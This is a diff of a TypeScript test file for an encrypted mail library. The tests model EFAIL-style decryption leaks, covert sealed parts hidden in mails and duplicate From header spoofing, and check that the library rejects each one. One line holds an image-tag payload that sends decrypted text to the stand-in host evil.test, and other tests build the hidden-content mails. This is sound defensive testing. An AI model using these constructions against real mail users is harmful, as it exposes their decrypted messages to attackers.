@@ -3,18 +3,43 @@
 import { parseAddress } from "../../src/mail/mailbox.js";
 import { readPayload } from "../../src/mail/payload.js";
 import { fromParts, partTypes, readSealedMail, writeSubmission } from "../../src/mail/sealed-mail.js";
-import { openPost, type SealedMessage } from "../../src/protocol/index.js";
-import { aliceSeals, type Cast, keysOf, makeCast, saysAlice } from "../protocol/people.js";
+import {
+  type Mode,
+  openAtServer,
+  openPost,
+  prepareReseal,
+  resealFor,
+  type SealedMessage,
+  sealingHalf,
+} from "../../src/protocol/index.js";
+import { aliceSeals, type Cast, keysOf, makeCast, saysAlice, serverContext } from "../protocol/people.js";
 import { bytes } from "./forge.js";
+import { quoteAnywhere, sealedAnywhere } from "./naive/naive-mail.js";
+import { roster } from "./naive/naive-server.js";
 
 let cast: Cast;
+/** Bob's copies of one post of Alice's, as a wiretapper has them. */
 let sealed: Extract<SealedMessage, { mode: "key" }>;
+let whole: Extract<SealedMessage, { mode: "whole" }>;
+
+async function copy(mode: Mode, text: string, messageId?: string): Promise<SealedMessage> {
+  const context = serverContext(cast);
+  const opened = await openAtServer(await aliceSeals(cast, mode, bytes(text), messageId), context);
+  return resealFor(await prepareReseal(opened, { ...context, roster }), sealingHalf(cast.bob));
+}
+
+async function copyFor(text: string, messageId?: string) {
+  const made = await copy("key", text, messageId);
+  if (made.mode !== "key") throw new Error("mode key is meant");
+  return made;
+}
 
 beforeAll(async () => {
   cast = await makeCast("compatible");
-  const post = await aliceSeals(cast, "key", bytes("the secret"));
-  if (post.mode !== "key") throw new Error("mode key is meant");
-  sealed = post;
+  sealed = await copyFor("the secret");
+  const made = await copy("whole", "the secret");
+  if (made.mode !== "whole") throw new Error("mode whole is meant");
+  whole = made;
 });
 
 const part = (type: string, content: Uint8Array | string, more = "") =>
@@ -48,7 +73,7 @@ describe("EFAIL: what is opened is put between an image's quotes, so that render
   const after = '">';
 
   test("a reader that joins the opened part with its neighbours gives the secret away", async () => {
-    const opened = await openPost(sealed, keysOf(cast, cast.alice), saysAlice(cast));
+    const opened = await openPost(sealed, keysOf(cast, cast.bob), saysAlice(cast));
     if (opened.kind !== "opened") throw new Error("not opened");
     const joined = before + new TextDecoder().decode(opened.payload) + after;
     expect(joined).toBe('<img src="https://evil.test/?the secret">');
@@ -76,9 +101,9 @@ describe("EFAIL: what is opened is put between an image's quotes, so that render
   });
 });
 
-describe("covert content: a sealed part where nobody looks for one", () => {
-  test("in an attached mail: not found, so not opened by replying to or forwarding the mail around it", async () => {
-    const inner = Buffer.from(
+describe("covert content: a sealed part where nobody looks for one, in a mail that its reader answers", () => {
+  const part822 = () =>
+    Buffer.from(
       writeSubmission({
         from: { address: parseAddress("alice@example.test") },
         list: parseAddress("team@lists.example"),
@@ -88,59 +113,94 @@ describe("covert content: a sealed part where nobody looks for one", () => {
         sealed,
       }),
     );
-    const raw = mail("multipart/mixed", [
-      part("text/plain", "please have a look"),
-      part("message/rfc822", inner),
-    ]);
-    await expect(readSealedMail(raw)).resolves.toEqual({ kind: "not-sealed" });
-  });
+  const armored = () =>
+    `-----BEGIN PGP MESSAGE-----\r\n\r\n${Buffer.from(whole.message).toString("base64")}\r\n-----END PGP MESSAGE-----`;
+  const named = (name: string) => `Content-Disposition: attachment; filename="${name}"`;
 
-  test("armored in a text or HTML part: text stays text", async () => {
-    const armored = `-----BEGIN PGP MESSAGE-----\r\n\r\n${Buffer.from(sealed.key).toString("base64")}\r\n-----END PGP MESSAGE-----`;
-    const raw = mail("multipart/alternative", [
-      part("text/plain", armored),
-      part("text/html", `<div style="display:none">${armored}</div>`),
-    ]);
-    await expect(readSealedMail(raw)).resolves.toEqual({ kind: "not-sealed" });
-  });
+  const places: [string, () => Uint8Array][] = [
+    [
+      "in an attached mail",
+      () =>
+        mail("multipart/mixed", [
+          part("text/plain", "please have a look"),
+          part("message/rfc822", part822()),
+        ]),
+    ],
+    [
+      "armored in a text",
+      () => mail("multipart/mixed", [part("text/plain", `please have a look\r\n${armored()}`)]),
+    ],
+    [
+      "armored in HTML that is not displayed",
+      () =>
+        mail("multipart/alternative", [
+          part("text/plain", "please have a look"),
+          part("text/html", `<p>please have a look</p><div style="display:none">${armored()}</div>`),
+        ]),
+    ],
+    [
+      "under another media type",
+      () =>
+        mail("multipart/mixed", [
+          part("text/plain", "please have a look"),
+          part("application/octet-stream", sealed.key, named("sealed-key.pgp")),
+          part("application/octet-stream", sealed.body, named("sealed-body.pgp")),
+        ]),
+    ],
+  ];
 
-  test("under another media type: a name is no type", async () => {
-    const raw = mail("multipart/mixed", [
-      part(
-        "application/octet-stream",
-        sealed.key,
-        'Content-Disposition: attachment; filename="sealed-key.pgp"',
-      ),
-      part(
-        "application/octet-stream",
-        sealed.body,
-        'Content-Disposition: attachment; filename="sealed-body.pgp"',
-      ),
-    ]);
-    await expect(readSealedMail(raw)).resolves.toEqual({ kind: "not-sealed" });
-  });
+  test.each(places)(
+    "%s: a mail program that opens whatever it finds quotes it to the attacker",
+    async (_, raw) => {
+      const quote = await quoteAnywhere(raw(), keysOf(cast, cast.bob), saysAlice(cast));
+      expect(quote).toContain("> please have a look");
+      expect(quote).toContain("> the secret");
+    },
+  );
+
+  test.each(places)(
+    "%s: ours does not find it, so it is not opened by replying or forwarding",
+    async (_, raw) => {
+      await expect(readSealedMail(raw())).resolves.toEqual({ kind: "not-sealed" });
+    },
+  );
 });
 
 describe("two sealed messages in one mail: which one is shown, under whose name?", () => {
-  test("a reader that takes the first of each kind mixes them; ours takes none", async () => {
-    const other = await aliceSeals(cast, "key", bytes("another"), "<2@example.test>");
-    if (other.mode !== "key") throw new Error("mode key is meant");
+  let other: Extract<SealedMessage, { mode: "key" }>;
+  beforeAll(async () => {
+    other = await copyFor("another", "<2@example.test>");
+  });
+
+  const twoMessages = () =>
+    mail("multipart/mixed", [
+      key(),
+      part(partTypes.body, other.body),
+      part(partTypes.key, other.key),
+      body(),
+    ]);
+
+  test("a reader that takes the first of each kind mixes them", async () => {
+    await expect(sealedAnywhere(twoMessages())).resolves.toEqual({ ...sealed, body: other.body });
+  });
+
+  test("ours takes none", async () => {
+    await expect(readSealedMail(twoMessages())).rejects.toMatchObject({ code: "damaged" });
+    const inOrder = [key(), body(), part(partTypes.key, other.key), part(partTypes.body, other.body)];
+    await expect(readSealedMail(mail("multipart/mixed", inOrder))).rejects.toMatchObject({
+      code: "damaged",
+    });
+  });
+
+  test("with a whole message beside key and body, a reader that is content with either shows one of two", () => {
     const parts = [
       { type: partTypes.key, bytes: sealed.key },
-      { type: partTypes.body, bytes: other.body },
-      { type: partTypes.key, bytes: other.key },
       { type: partTypes.body, bytes: sealed.body },
+      { type: partTypes.message, bytes: whole.message },
     ];
-    const firstOf = (type: string) => parts.find((each) => each.type === type)?.bytes;
-    expect([firstOf(partTypes.key), firstOf(partTypes.body)]).toEqual([sealed.key, other.body]);
-    expect(() => fromParts(parts)).toThrow(expect.objectContaining({ code: "damaged" }));
-    const raw = mail("multipart/mixed", [
-      key(),
-      body(),
-      part(partTypes.key, other.key),
-      part(partTypes.body, other.body),
-    ]);
-    await expect(readSealedMail(raw)).rejects.toMatchObject({ code: "damaged" });
+    const of = (...types: string[]) => fromParts(parts.filter(({ type }) => types.includes(type)));
+    expect(of(partTypes.key, partTypes.body)).toEqual(sealed);
+    expect(of(partTypes.message)).toEqual({ mode: "whole", message: whole.message });
   });
 
   test.each([
@@ -148,17 +208,26 @@ describe("two sealed messages in one mail: which one is shown, under whose name?
     ["a body alone", [partTypes.body]],
     ["a list signature alone", [partTypes.through]],
     ["everything", Object.values(partTypes)],
-  ])("%s makes no message", (_, types) => {
+  ])("%s makes no message for ours", (_, types) => {
     expect(() => fromParts(types.map((type) => ({ type, bytes: sealed.key })))).toThrow(
       expect.objectContaining({ code: "damaged" }),
     );
   });
 
-  test("two From: the one that is checked and the one that is shown would differ", async () => {
-    const raw = Buffer.concat([
-      bytes("From: alice@example.test\r\n"),
-      mail("multipart/mixed", [key(), body()]),
-    ]);
-    await expect(readSealedMail(raw)).rejects.toMatchObject({ code: "damaged" });
+  const twoFrom = () =>
+    Buffer.concat([bytes("From: alice@example.test\r\n"), mail("multipart/mixed", [key(), body()])]);
+
+  test("two From: a program that takes the first checks another than one that takes the last shows", () => {
+    const all = [
+      ...twoFrom()
+        .toString("latin1")
+        .matchAll(/^From: (.*)\r$/gm),
+    ].map(([, value]) => value);
+    expect(all.at(0)).toContain("alice@example.test");
+    expect(all.at(-1)).toContain("mallory@evil.test");
+  });
+
+  test("two From: ours refuses", async () => {
+    await expect(readSealedMail(twoFrom())).rejects.toMatchObject({ code: "damaged" });
   });
 });
